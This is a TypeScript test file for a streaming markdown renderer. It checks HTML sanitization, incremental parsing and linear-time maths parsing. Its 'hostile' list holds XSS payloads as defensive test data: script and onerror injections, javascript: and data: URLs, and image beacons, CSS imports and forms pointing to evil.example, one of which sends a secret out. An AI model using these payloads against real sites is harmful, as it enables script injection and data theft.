import assert from 'node:assert/strict';
import test from 'node:test';
import { GrowingMarkdown } from '../src/markdown/blocks';
import { searched } from '../src/markdown/maths';

const show = (text: string): string => {
  const change = new GrowingMarkdown().update(text, true);
  return [...change.finished, ...change.tail].map(block => block.markup).join('');
};

// What a model may write to have a browser do something. The first lock alone has to hold: the sanitizer behind it is tried in a browser.
const hostile = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '![beacon](https://evil.example/p.png?q=secret)', '![a][b]\n\n[b]: https://evil.example/p.png', '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))', '[x](java\nscript:alert(1))', '[x](&#106;avascript:alert(1))', '[x](data:text/html,<script>alert(1)</script>)', '[x](vbscript:x)', '[x](file:///etc/passwd)',
  '<javascript:alert(1)>', '<style>@import url(https://evil.example/x.css)</style>', '<div style="background:url(https://evil.example/)">x</div>', '<link rel=stylesheet href=https://evil.example/x>',
  '<iframe src=https://evil.example></iframe>', '<form action=https://evil.example><input name=x></form>', '<svg/onload=alert(1)>', '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<base href=https://evil.example>', '<meta http-equiv=refresh content="0;url=https://evil.example">', '<a href=https://evil.example ping=https://evil.example>x</a>', '<video src=https://evil.example></video>',
  '[x](https://a.example "title\\" onmouseover=alert(1) x=\\"")', '```"><img src=x onerror=alert(1)>\ncode\n```', '$<img src=x onerror=alert(1)>$', '$$\n<script>alert(1)</script>\n$$', '| <img src=x> |\n|--|\n| <img src=y> |',
  '<details open ontoggle=alert(1)>', '<object data=https://evil.example>', '<p id=app name=cookie>', '![](data:image/svg+xml;base64,PHN2Zy8+)', '<!-- --><x/onclick=alert(1)>',
];

const allowed = /^<\/?(p|br|hr|h[1-6]|ul|ol|li|blockquote|pre|code|strong|em|s|a|span|div|table|thead|tbody|tr|th|td)( (class="[\w+#. -]*"|start="\d+"|role="link"|tabindex="0"|data-address="(https?|mailto):[^"<>]*"|title="[^"<>]*"))*\s*\/?>$/;

for (const text of hostile) {
  test(`Markup of ${JSON.stringify(text)} asks for nothing`, () => {
    const markup = show(text);
    for (const [tag] of markup.matchAll(/<[^>]*>/g)) {
      assert.match(tag, allowed);
    }
    assert.doesNotMatch(markup, /\s(href|src|srcset|style|id|name|action|on\w+)="/);
  });
}

test('Markdown that grows piece by piece looks like the whole of it, whatever the pieces', () => {
  const text = '# One\n\nA *paragraph*\nof two lines.\n\n- a\n- b\n\n  more\n\n1. x\n\n```js\nlet a = 1;\n\nlet b;\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\nTitle\n=====\n\n$$\nx^2\n$$\n\n> quote\nlazy\n\n    indented\n\nend [l](https://a.example)';
  const whole = show(text);
  for (const size of [1, 2, 3, 7, 50]) {
    const growing = new GrowingMarkdown();
    let finished = '';
    let tail = '';
    for (let at = size; ; at += size) {
      const isDone = at >= text.length;
      const change = growing.update(text.slice(0, at), isDone);
      finished = (change.isNew && at > size ? '' : finished) + change.finished.map(block => block.markup).join('');
      tail = change.tail.map(block => block.markup).join('');
      if (isDone) {
        break;
      }
    }
    assert.equal(finished + tail, whole, `in pieces of ${size}`);
  }
});

test('A finished block is not parsed again', () => {
  const paragraph = `${'word '.repeat(40)}\n\n`;
  const growing = new GrowingMarkdown();
  const count = 200;
  let text = '';
  for (let i = 0; i < count; i++) {
    text += paragraph;
    growing.update(text, false);
  }
  // Each time the new paragraph and the one before it; all of it each time would be a hundred times as much.
  assert.ok(growing.parsed <= 3 * text.length, `${growing.parsed} characters parsed for ${text.length}`);
});

test('A text that is another one is begun anew', () => {
  const growing = new GrowingMarkdown();
  growing.update('One\n\nTwo', false);
  assert.equal(growing.update('Another', false).isNew, true);
});

test('Address that is given at the end reaches links above once the text is there', () => {
  const growing = new GrowingMarkdown();
  growing.update('See [this][1].\n\nMore.\n\n', false);
  const change = growing.update('See [this][1].\n\nMore.\n\n[1]: https://a.example/\n', true);
  assert.equal(change.isNew, true);
  assert.match(change.finished[0]!.markup, /data-address="https:\/\/a\.example\/"/);
});

test('Prices are no maths, and maths is', () => {
  assert.doesNotMatch(show('It is $5 and not $10.'), /maths/);
  assert.match(show('So $a^2$ holds.'), /<span class="maths">a\^2<\/span>/);
  assert.match(show('\\(x\\) and\n\n\\[\ny\n\\]'), /<span class="maths">x<\/span>[^]*<div class="maths maths-display">y<\/div>/);
  assert.doesNotMatch(show('`$a$`'), /maths/);
});

// Each would be searched to its end from every opening mark, and a model writes as many as it likes.
for (const [name, text] of [
  ['\\(', '\\('.repeat(20_000)], ['$ x', '$ x'.repeat(10_000)], ['lines of \\[', '\\[\n'.repeat(5000)], ['lines of \\[ with one end', `${'\\[\n'.repeat(5000)}\\] x`],
  ['\\( in brackets', `${'['.repeat(1000)}${'\\('.repeat(5000)}`], ['lines of $$', '$$ x\n'.repeat(5000)], ['$$ and empty lines', `$$${'\n'.repeat(5000)}`], ['quoted', '> \\[\n'.repeat(5000)],
] as const) {
  test(`Maths that never ends is looked for once: ${name}`, () => {
    searched.characters = searched.lines = 0;
    show(text);
    assert.ok(searched.characters <= 20 * text.length && searched.lines <= 20 * text.length, `${searched.characters} characters and ${searched.lines} lines searched for ${text.length}`);
  });
}

test('Maths ends where it did, whatever stands before it', () => {
  assert.match(show('\\( \\( and \\(x\\)'), /<span class="maths">\\\( and \\\(x<\/span>/);
  assert.match(show('[a $x$ b] $y$ and $z$'), /x<\/span>.*y<\/span>.*z<\/span>/);
  assert.match(show('\\[\na\n\nb\n\\]\n\n\\[\nc\n\\]'), /<div class="maths maths-display">a\n\nb<\/div>\s*<div class="maths maths-display">c<\/div>/);
  assert.match(show('> \\[\n> a\n> \\]\n\n\\[ b \\]'), /<blockquote>\s*<div class="maths maths-display">a<\/div>\s*<\/blockquote>\s*<div class="maths maths-display">b<\/div>/);
  assert.match(show('$$a\nb$$'), /<div class="maths maths-display">a\nb<\/div>/);
  assert.doesNotMatch(show('$$\na\n\nb\n$$ c'), /maths-display/);
});
